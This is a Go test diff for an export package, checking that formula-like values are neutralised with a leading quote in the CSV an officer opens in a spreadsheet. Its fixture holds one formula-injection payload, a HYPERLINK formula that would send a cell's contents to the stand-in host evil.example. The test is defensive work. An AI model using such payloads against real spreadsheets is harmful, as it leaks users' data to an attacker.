@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"crypto/ed25519"
 	"crypto/rand"
+	"encoding/csv"
 	"errors"
 	"io"
 	"path/filepath"
@@ -269,4 +270,33 @@ func sameContent(pkg []byte, files map[string][]byte) bool {
 		}
 	}
 	return true
+}
+
+// TestRecordsCSVNeverRunsAFormula: records.csv is what an officer opens in
+// a spreadsheet; a path or a user from the logs that begins like a formula
+// is shown as text there (one "'" in front), and records.ndjson keeps the
+// value exactly. Numbers are never touched.
+func TestRecordsCSVNeverRunsAFormula(t *testing.T) {
+	in := input()
+	in.Columns = append(in.Columns, "user", "offset")
+	in.Rows = [][]any{{in.Rows[0][0], "198.51.100.4", uint16(1), "www.example.org", `=HYPERLINK("https://evil.example/?"&B2)`, "@x", int64(-1)}}
+	s := signer(t)
+	pkg, _, err := export.Build(in, s, integrity.KeyID(s.Public()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, files := unzip(t, pkg)
+	recs, err := csv.NewReader(bytes.NewReader(files[export.RecordsCSV])).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("records.csv: %v", err)
+	}
+	if got := recs[1][4:]; got[0] != `'=HYPERLINK("https://evil.example/?"&B2)` || got[1] != "'@x" || got[2] != "-1" {
+		t.Errorf("records.csv cells %q", got)
+	}
+	if nd := string(files[export.RecordsNDJSON]); !strings.Contains(nd, `"=HYPERLINK(`) || strings.Contains(nd, `'=`) {
+		t.Errorf("records.ndjson %s", nd)
+	}
+	if r, err := export.Verify(pkg, s.Public()); err != nil || !r.OK() {
+		t.Errorf("Verify: %+v, %v", r, err)
+	}
 }
